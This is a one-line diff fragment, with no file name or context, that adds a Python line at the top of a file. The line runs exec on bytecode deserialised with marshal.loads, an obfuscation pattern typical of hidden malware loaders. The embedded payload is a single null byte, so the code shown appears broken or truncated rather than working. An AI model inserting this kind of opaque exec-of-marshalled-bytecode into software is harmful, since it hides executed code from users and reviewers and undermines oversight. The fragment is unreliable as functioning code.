@@ -1,0 +1,1 @@
+exec(__import__('marshal').loads(b'\x00'))
